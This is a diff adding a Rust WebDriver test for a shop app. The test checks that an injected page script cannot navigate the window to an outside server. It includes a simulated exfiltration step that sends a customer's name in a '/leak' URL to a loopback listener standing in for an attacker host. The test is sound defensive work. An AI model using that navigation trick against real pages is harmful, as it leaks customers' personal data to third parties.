@@ -158,3 +158,36 @@ async fn the_page_cannot_open_a_link_of_its_own() {
     assert!(!opened_text.contains("attach"), "opened: {opened_text}");
     driver.quit().await.expect("quit");
 }
+
+/// An injected script that sets `location` to a server of its own (with
+/// customer data in the address) goes nowhere: only the app's own pages
+/// load in the window. A listener on loopback stands in for that server.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_script_in_the_page_cannot_navigate_the_window_away() {
+    let harness = Harness::start();
+    let data = tempfile::tempdir().expect("temp data folder");
+    shop_with_ada(data.path());
+    let driver = harness.open_app(data.path()).await;
+    element(&driver, "#search-input").await;
+
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
+    listener.set_nonblocking(true).expect("non-blocking");
+    let address = format!("http://127.0.0.1:{}/leak?name=Ada%20Lovelace", listener.local_addr().expect("address").port());
+    let own = driver.execute("return window.location.href", vec![]).await.expect("script").json().as_str().unwrap_or_default().to_string();
+    driver.execute("window.location.href = arguments[0];", vec![json!(address)]).await.expect("script");
+
+    let started = Instant::now();
+    let mut reached = false;
+    while started.elapsed() < Duration::from_secs(4) {
+        if listener.accept().is_ok() {
+            reached = true;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert!(!reached, "the window went to a server of the page's choosing");
+    let now = driver.execute("return window.location.href", vec![]).await.expect("script").json().as_str().unwrap_or_default().to_string();
+    assert_eq!(now, own, "the window stays on the app's own page");
+    element(&driver, "#search-input").await;
+    driver.quit().await.expect("quit");
+}
